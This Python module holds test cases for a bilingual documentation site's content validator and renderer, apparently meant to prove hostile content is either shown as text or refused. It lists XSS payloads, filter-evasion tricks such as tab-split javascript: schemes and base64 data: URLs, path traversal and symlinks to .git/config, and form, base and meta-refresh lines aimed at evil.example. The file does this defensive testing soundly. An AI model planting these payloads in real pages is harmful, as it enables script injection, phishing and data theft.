"""The hostile cases, as data. See ``__init__.py`` for how they are used and added."""

from __future__ import annotations

import json
from dataclasses import dataclass, field

# Marks what must never be published: placed in the copy's .git/config and outside docs/.
SECRET = "hub-secret-3f9c1b7e"


def payload(where: str) -> str:
    """Text that runs ``window.__pwned = where`` if any context prints it unescaped.

    Breaks out of attributes (both quotes), opens an element with a handler and a
    script, and tries template evaluation ({{7*7}} must stay text, never become 49).
    """
    return (f"\"'><img src=x onerror=\"window.__pwned='{where}'\">"
            f"<script>window.__pwned='{where}'</script>{{{{7*7}}}}")


def short(where: str) -> str:
    """A payload that fits a field of at most 60 characters (a tag)."""
    return f"\"><svg onload=window.__pwned='{where}'>"


def _q(value: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(value, ensure_ascii=False)


def page(*fields: str, body: str = "Text.\n") -> str:
    """A Markdown file: '---' on line 1, then the fields, '---', a blank line, the body."""
    return "---\n" + "".join(f"{line}\n" for line in fields) + "---\n\n" + body


TS = (f"title: {_q('Refused case')}", f"summary: {_q('Must not be published.')}")  # lines 2 and 3


@dataclass(frozen=True)
class Inert:
    """Files added to the inert build; ``pages`` are the URLs (both languages) to open."""

    name: str
    files: dict[str, str | bytes]
    pages: tuple[str, ...] = ()


@dataclass(frozen=True)
class Refused:
    """One file (or symbolic link) the validator must refuse with ``expected`` (path:line: field)."""

    name: str
    path: str
    content: str | bytes = ""
    expected: str = ""
    symlink_to: str | None = None  # relative to the repository root
    extra: dict[str, str | bytes] = field(default_factory=dict)


# --- inert: accepted and shown as text -------------------------------------------------

HOSTILE_TOPIC = "hostile-topic"
# Appended to data/taxonomies.yml's topics: the labels and intros are reviewed data, but
# must still be text on every page that shows them.
TAXONOMY_ENTRY = f"""  {HOSTILE_TOPIC}:
    label: {{en: {_q('Topic ' + payload('topic-label-en'))}, ru: {_q('Тема ' + payload('topic-label-ru'))}}}
    intro:
      en: {_q(payload('topic-intro-en'))}
      ru: {_q(payload('topic-intro-ru'))}
"""
# Replacements in data/ui.yml (the site's own words, printed on every page).
UI_EDITS = {
    "  related: Related items\n": f"  related: {_q('Related ' + payload('ui-related-en'))}\n",
    "  related: Похожие материалы\n": f"  related: {_q('Похожие ' + payload('ui-related-ru'))}\n",
    "  go_home: Go to the home page\n": f"  go_home: {_q('Home ' + payload('ui-home-en'))}\n",
    '  showing: "Showing {shown} of {total}"\n':
        f"  showing: {_q('Showing {shown} of {total} ' + payload('ui-showing-en'))}\n",
}

INERT_BODY = f"""Code shows markup as text: `<script>window.__pwned='code-span'</script>`.

```html
<script>window.__pwned='fence'</script>
<img src=x onerror="window.__pwned='fence-img'">
```

--8<-- ".git/config"

--8<-- "../../.git/config"

<!-- <script>window.__pwned='comment'</script> -->

Escaped: &lt;script&gt;window.__pwned='escaped'&lt;/script&gt;

[A link with a hostile title](https://example.org/ "\\" onmouseover=\\"window.__pwned='link-title'")

## Not a tag: 3 < 4 & "quotes" 'too'

Template syntax stays text: {{{{ 7*7 }}}} {{% raw %}} ${{7*7}}
"""

INERT: list[Inert] = [
    Inert("every front-matter field, and its translation", {
        "docs/reports/hostile-fields.md": page(
            f"title: {_q('Report ' + payload('title'))}",
            f"summary: {_q('Summary ' + payload('summary'))}",
            'date: "2026-11-20"',
            "countries: [kz]",
            f"topics: [{HOSTILE_TOPIC}]",
            f"authors: [{_q(payload('author'))}]",
            f"tags: [{_q(short('tag'))}]",
            "attachments:",
            f"  - {{title: {_q(payload('attachment-title'))}, file: files/hostile-slides.pdf}}",
            f"  - {{title: {_q(payload('attachment-url-title'))}, url: \"https://example.org/a.pdf?x=1&y=2\"}}",
            body=INERT_BODY),
        "docs/reports/files/hostile-slides.pdf": b"%PDF-1.4\n%hostile\n",
        "docs/reports/hostile-fields.ru.md": page(
            f"title: {_q('Отчёт ' + payload('title-ru'))}",
            f"summary: {_q('Кратко ' + payload('summary-ru'))}",
            f"tags: [{_q(short('tag-ru'))}]",
            body="Русский текст: `<script>window.__pwned='code-ru'</script>`.\n"),
    }, ("reports/hostile-fields/", "ru/reports/hostile-fields/")),
    Inert("an event's location", {
        "docs/workshops/hostile-event.md": page(
            f"title: {_q('Workshop ' + payload('event-title'))}",
            f"summary: {_q('An event.')}",
            'date: "2026-11-21"',
            f"topics: [{HOSTILE_TOPIC}]",
            f"event: {{kind: workshop, format: offline, location: {_q(payload('location'))}}}"),
    }, ("workshops/hostile-event/", "ru/workshops/hostile-event/")),
    Inert("a taxonomy term's label and intro, and the interface words", {}, (
        f"topics/{HOSTILE_TOPIC}/", f"ru/topics/{HOSTILE_TOPIC}/", "topics/", "ru/topics/",
        "library/", "ru/library/", "", "ru/", "reports/", "ru/reports/", "404.html", "ru/404.html")),
]


# --- refused: stopped with a located error ---------------------------------------------

G = "docs/guides"
REFUSED: list[Refused] = [
    Refused("file name with markup", f'{G}/"><img src=x onerror=alert(1)>.md', page(*TS),
            f'{G}/"><img src=x onerror=alert(1)>.md:1: file'),
    Refused("dot folder", "docs/.git/config", f"[core]\n{SECRET}\n", "docs/.git:1: file"),
    Refused("symlinked file", f"{G}/r-link.md", symlink_to=".git/config",
            expected=f"{G}/r-link.md:1: file"),
    Refused("symlinked folder", f"{G}/r-dir", symlink_to="hubcore", expected=f"{G}/r-dir:1: file"),
    Refused("script", f"{G}/r-script.md", page(*TS, body="<script>window.__pwned=1</script>\n"),
            f"{G}/r-script.md:6: body"),
    Refused("iframe with a script URL", f"{G}/r-iframe.md",
            page(*TS, body='<iframe src="javascript:alert(1)"></iframe>\n'), f"{G}/r-iframe.md:6: body"),
    Refused("object", f"{G}/r-object.md", page(*TS, body='<object data="x.swf"></object>\n'),
            f"{G}/r-object.md:6: body"),
    Refused("embed", f"{G}/r-embed.md", page(*TS, body='<embed src="x.swf">\n'), f"{G}/r-embed.md:6: body"),
    Refused("event handler", f"{G}/r-onmouseover.md",
            page(*TS, body='<div onmouseover="alert(1)">x</div>\n'), f"{G}/r-onmouseover.md:6: body"),
    Refused("svg onload", f"{G}/r-svg.md", page(*TS, body='<svg onload="alert(1)"></svg>\n'),
            f"{G}/r-svg.md:6: body"),
    Refused("javascript: inline link", f"{G}/r-js-link.md", page(*TS, body="[x](javascript:alert(1))\n"),
            f"{G}/r-js-link.md:6: body"),
    Refused("javascript: reference link", f"{G}/r-js-ref.md",
            page(*TS, body="[x][1]\n\n[1]: javascript:alert(1)\n"), f"{G}/r-js-ref.md:8: body"),
    Refused("javascript: autolink", f"{G}/r-js-auto.md", page(*TS, body="<javascript:alert(1)>\n"),
            f"{G}/r-js-auto.md:6: body"),
    Refused("javascript: in attr_list", f"{G}/r-attr-list.md",
            page(*TS, body='A [link](https://example.org){: href="javascript:alert(1)" }\n'),
            f"{G}/r-attr-list.md:6: body"),
    Refused("handler in attr_list", f"{G}/r-attr-on.md",
            page(*TS, body='A paragraph.\n{: onclick="alert(1)" }\n'), f"{G}/r-attr-on.md:7: body"),
    Refused("tab entity in the scheme", f"{G}/r-entity.md",
            page(*TS, body='<a href="jav&#x09;ascript:alert(1)">x</a>\n'), f"{G}/r-entity.md:6: body"),
    Refused("literal tab in the scheme", f"{G}/r-tab.md",
            page(*TS, body='<a href="javas\tcript:alert(1)">x</a>\n'), f"{G}/r-tab.md:6: body"),
    Refused("data: URL with HTML", f"{G}/r-data.md",
            page(*TS, body="[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"),
            f"{G}/r-data.md:6: body"),
    Refused("script after an unclosed fence", f"{G}/r-fence.md",
            page(*TS, body="```\n<script>alert(1)</script>\n"), f"{G}/r-fence.md:7: body"),
    Refused("script between stray backticks", f"{G}/r-backticks.md",
            page(*TS, body="Press ` once.\n\n<script>alert(1)</script>\n\nThen ` again.\n"),
            f"{G}/r-backticks.md:8: body"),
    Refused("comment a browser ends early", f"{G}/r-comment.md",
            page(*TS, body="<!--><img src=x onerror=alert(1)>-->\n"), f"{G}/r-comment.md:6: body"),
    Refused("meta refresh", f"{G}/r-meta.md",
            page(*TS, body='<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'),
            f"{G}/r-meta.md:6: body"),
    Refused("base", f"{G}/r-base.md", page(*TS, body='<base href="https://evil.example/">\n'),
            f"{G}/r-base.md:6: body"),
    Refused("form", f"{G}/r-form.md",
            page(*TS, body='<form action="https://evil.example/"><input name="p"></form>\n'),
            f"{G}/r-form.md:6: body"),
    Refused("image from another host", f"{G}/r-remote-image.md",
            page(*TS, body="![x](https://tracker.example/pixel.png)\n"), f"{G}/r-remote-image.md:6: body"),
    Refused("link outside docs/", f"{G}/r-outside.md", page(*TS, body="[config](../../mkdocs.yml)\n"),
            f"{G}/r-outside.md:6: body"),
    Refused("template field", f"{G}/r-template.md",
            page(*TS, "template: redirect.html"), f"{G}/r-template.md:4: template"),
    Refused("hide field", f"{G}/r-hide.md", page(*TS, "hide: [navigation]"), f"{G}/r-hide.md:4: hide"),
    Refused("YAML anchor", f"{G}/r-anchor.md", page(*TS, "tags: &x [a]", "authors: *x"),
            f"{G}/r-anchor.md:4: front matter"),
    Refused("attachment with a script URL", f"{G}/r-att-url.md",
            page(*TS, "attachments:", '  - {title: X, url: "javascript:alert(1)"}'),
            f"{G}/r-att-url.md:5: attachments[0].url"),
    Refused("attachment URL breaking out of the attribute", f"{G}/r-att-quote.md",
            page(*TS, "attachments:", """  - {title: X, url: 'https://example.org/"><script>alert(1)</script>'}"""),
            f"{G}/r-att-quote.md:5: attachments[0].url"),
    Refused("attachment outside docs/", f"{G}/r-att-file.md",
            page(*TS, "attachments:", "  - {title: X, file: ../../.git/config}"),
            f"{G}/r-att-file.md:5: attachments[0].file"),
    Refused("translation repeating a neutral field with markup", f"{G}/r-neutral.ru.md",
            page(f"title: {_q('Перевод')}", f"summary: {_q('Кратко.')}", f"authors: [{_q(payload('x'))}]"),
            f"{G}/r-neutral.ru.md:4: authors",
            extra={f"{G}/r-neutral.md": page(f"title: {_q('Original')}", f"summary: {_q('S.')}",
                                             f"authors: [{_q('A. Author')}]")}),
]
